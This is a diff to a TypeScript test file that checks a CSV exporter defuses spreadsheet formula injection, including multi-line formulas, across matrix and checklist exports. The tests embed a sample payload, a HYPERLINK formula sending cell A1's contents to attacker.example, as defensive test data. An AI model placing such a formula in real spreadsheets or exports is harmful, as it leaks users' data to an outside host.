@@ -18,6 +18,32 @@ describe('toCsv', () => {
   it('defuses cells a spreadsheet would run as formulas', () => {
     expect(parseCsv(toCsv([['h'], ['=HYPERLINK("x")'], ['@SUM(A1)']]))).toEqual([['h'], ['\'=HYPERLINK("x")'], ["'@SUM(A1)"]]);
   });
+  it('defuses a formula that spans several lines, and leaves a formula sign after the first character alone', () => {
+    const cells = ['=HYPERLINK("https://attacker.example/?d="&A1,\n"open")', '+1\n2', '\n=1', 'ok\n=1'];
+    expect(parseCsv(toCsv([['h'], ...cells.map((c) => [c])])).slice(1).map(([c]) => c)).toEqual([
+      '\'=HYPERLINK("https://attacker.example/?d="&A1,\n"open")',
+      "'+1\n2",
+      "'\n=1",
+      'ok\n=1',
+    ]);
+  });
+});
+
+/** A formula an author could paste into any text the exports carry: it opens a link when a cell is clicked. */
+const MULTILINE_FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,\n"evidence")';
+
+describe('every CSV export defuses a multi-line formula in any cell', () => {
+  const model = realModel();
+  const exports: [string, string[][]][] = [
+    ['matrix.csv', matrixTable(buildMatrix(model))],
+    ...buildChecklists(model).map((c) => [`checklists/${c.id}.csv`, checklistTable(c)] as [string, string[][]]),
+  ];
+  it.each(exports)('%s', (_, table) => {
+    // the formula in every column of the first data row, as content could put it there
+    const poisoned = [table[0]!, table[1]!.map(() => MULTILINE_FORMULA), ...table.slice(2)];
+    const parsed = parseCsv(toCsv(poisoned));
+    expect(parsed[1]).toEqual(table[1]!.map(() => `'${MULTILINE_FORMULA}`));
+  });
 });
 
 describe('the matrix CSV', () => {
@@ -37,7 +63,7 @@ describe('the matrix CSV', () => {
 });
 
 /** What the formula guard does to a cell's text. */
-const defused = (text: string) => text.replace(/^([=+\-@\t\r])/, "'$1");
+const defused = (text: string) => text.replace(/^([=+\-@\t\r\n])/, "'$1");
 
 describe('the checklist CSVs', () => {
   const checklists = buildChecklists(realModel());
